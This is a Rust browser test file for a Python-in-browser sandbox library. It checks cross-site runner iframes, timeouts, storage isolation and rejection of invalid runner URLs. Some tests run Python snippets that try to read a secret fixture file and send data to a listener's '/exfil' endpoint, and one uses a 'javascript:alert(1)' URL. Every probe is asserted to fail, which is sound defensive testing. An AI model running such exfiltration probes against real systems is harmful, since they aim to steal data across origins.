//! `runnerUrl`: the sandbox document served by a page on another site
//! (tests/runner_host.py, on localhost; this page is on 127.0.0.1), so the
//! browser runs the sandbox in its own process.
use pycage::{Error, Isolation, Sandbox, SandboxOptions, Status};
use wasm_bindgen::JsCast;
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::*;
mod common;
use common::*;

wasm_bindgen_test_configure!(run_in_browser);

fn runner_host() -> &'static str {
    option_env!("PYCAGE_RUNNER_HOST").unwrap_or("http://localhost:8798")
}

/// Whether this page is cross-origin isolated (whether or not the engine
/// then gives it shared memory: WebKitGTK does not).
fn page_isolated() -> bool {
    js_sys::Reflect::get(&js_sys::global(), &"crossOriginIsolated".into())
        .ok()
        .and_then(|v| v.as_bool())
        .unwrap_or(false)
}

/// WebKit (Safari's engine), which refuses the runner's `blob:` worker
/// under Cross-Origin-Embedder-Policy (docs/browsers.md).
fn webkit() -> bool {
    let navigator = js_sys::Reflect::get(&js_sys::global(), &"navigator".into()).unwrap();
    let agent = js_sys::Reflect::get(&navigator, &"userAgent".into())
        .ok()
        .and_then(|v| v.as_string())
        .unwrap_or_default();
    agent.contains("AppleWebKit") && !agent.contains("Chrome")
}

/// Serves `runnerHtml()` from the other site, as a site would deploy it:
/// with COEP for an isolated page (its frames must send it), without for
/// one that is not (COEP gains it nothing).
async fn publish_runner() -> String {
    let init = web_sys::RequestInit::new();
    init.set_method("POST");
    init.set_body(&pycage::runner_html().into());
    let url = format!("{}/runner.html", runner_host());
    let response = JsFuture::from(
        web_sys::window()
            .unwrap()
            .fetch_with_str_and_init(&url, &init),
    )
    .await;
    let response: web_sys::Response = response.expect("the runner host is up").unchecked_into();
    assert!(response.ok());
    if page_isolated() {
        url
    } else {
        format!("{}/runner-no-coep.html", runner_host())
    }
}

fn frames() -> Vec<web_sys::Element> {
    let list = web_sys::window()
        .unwrap()
        .document()
        .unwrap()
        .query_selector_all("iframe")
        .unwrap();
    (0..list.length())
        .filter_map(|i| list.item(i)?.dyn_into().ok())
        .collect()
}

/// The message of the `Error::Init` that creating a sandbox on `runner_url` fails with.
async fn init_failure(runner_url: String) -> String {
    let created = Sandbox::create(SandboxOptions {
        runner_url: Some(runner_url),
        standby: Some(false),
        ..opts()
    })
    .await;
    let Err(Error::Init { message, .. }) = created else {
        panic!("create should fail with Error::Init: {:?}", created.err());
    };
    message
}

#[wasm_bindgen_test]
async fn a_runner_page_on_another_site_hosts_the_sandbox() {
    let url = publish_runner().await;
    if webkit() && page_isolated() {
        // The runner must send COEP to be framed here, and WebKit then
        // refuses its worker: create fails at once and says so.
        let started = now();
        let message = init_failure(url).await;
        assert!(
            message.contains("Cross-Origin-Embedder-Policy"),
            "{message}"
        );
        assert!(now() - started < 20_000.0, "took {} ms", now() - started);
        return;
    }
    let sb = sandbox(SandboxOptions {
        runner_url: Some(url.clone()),
        standby: Some(false),
        ..opts()
    })
    .await;
    let frame = frames()
        .into_iter()
        .find(|f| f.get_attribute("src").as_deref() == Some(url.as_str()))
        .expect("the runner frame");
    assert_eq!(
        frame.get_attribute("sandbox").as_deref(),
        Some("allow-scripts")
    );
    assert_eq!(sb.isolation(), Isolation::Iframe);
    assert_healthy(&sb).await;
    // With COEP on the runner (and delegated by `allow`), interrupts work there too.
    assert_eq!(sb.interruptible(), cross_origin_isolated());
    run(&sb, "kept = 1").await;
    let ex = run_with(&sb, "while True: pass", timeout(300.0)).await;
    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
    assert_eq!(ex.interpreter_reset, !cross_origin_isolated(), "{ex:?}");
    assert_healthy(&sb).await;
    // The runner site's own data and network are as closed as the inline frame's.
    let origin = web_sys::window().unwrap().location().origin().unwrap();
    for code in [
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{origin}/tests/fixtures/secret.json')\nprint(await r.text())"),
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{url}')\nprint(await r.text())"),
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, '{}/exfil?d=runner')", listener()),
    ] {
        let ex = run(&sb, &code).await;
        assert_eq!(ex.status, Status::Error, "{code}: {ex:?}");
        assert!(!format!("{ex:?}").contains("PYCAGE-SECRET-FILE-7f3a"));
    }
    // Storage: Chromium and Firefox refuse it to the opaque origin. WebKit
    // opens a store of that origin alone, which the next frame, another
    // opaque origin, does not see.
    let put = "import js\nc = await js.caches.open('app')\n\
        await c.put('/x', js.Response.new('RUNNER-CACHE-1f2e'))";
    let ex = run(&sb, put).await;
    if !webkit() {
        assert_eq!(ex.status, Status::Error, "{ex:?}");
    } else if ex.status == Status::Ok {
        let next = sandbox(SandboxOptions {
            runner_url: Some(url.clone()),
            standby: Some(false),
            ..opts()
        })
        .await;
        let read = "import js\nc = await js.caches.open('app')\nr = await c.match('/x')\n\
            print(r and await r.text())";
        let ex = run(&next, read).await;
        assert!(!format!("{ex:?}").contains("RUNNER-CACHE"), "{ex:?}");
        next.dispose();
    }
    sleep(300).await;
    assert!(
        !listener_log().await.iter().any(|r| r.contains("runner")),
        "the listener saw the runner's request"
    );
    sb.dispose();
    // The page's first boot snapshot is made after a dispose all the same,
    // in a frame of its own (src/supervisor/machine/maker.rs); once it is made,
    // nothing of the sandbox is left on the page.
    until_live(0).await;
    assert!(
        frames()
            .iter()
            .all(|f| f.get_attribute("src").as_deref() != Some(url.as_str())),
        "dispose removes the frame"
    );
}

#[wasm_bindgen_test]
async fn a_wrong_runner_url_is_a_clear_init_error() {
    let started = now();
    let url = format!("{}/not-a-runner.html", runner_host());
    let message = init_failure(url.clone()).await;
    assert!(
        message.contains(&url) && message.contains("runnerHtml()"),
        "{message}"
    );
    assert!(now() - started < 20_000.0, "took {} ms", now() - started);
}

#[wasm_bindgen_test]
async fn runner_url_options_are_checked() {
    // (A runnerUrl that is not a string is a JS caller's mistake; the Rust
    // type rules it out.)
    for (options, why) in [
        (
            SandboxOptions {
                runner_url: Some("https://runner.example/".into()),
                isolation: Isolation::Worker,
                ..opts()
            },
            "worker mode",
        ),
        (
            SandboxOptions {
                runner_url: Some("javascript:alert(1)".into()),
                ..opts()
            },
            "not http(s)",
        ),
    ] {
        match Sandbox::create(options).await {
            Err(Error::Options { field, .. }) => assert_eq!(field, "runnerUrl", "{why}"),
            Err(other) => panic!("{why}: not an options error: {other:?}"),
            Ok(_) => panic!("{why}: create succeeded"),
        }
    }
}
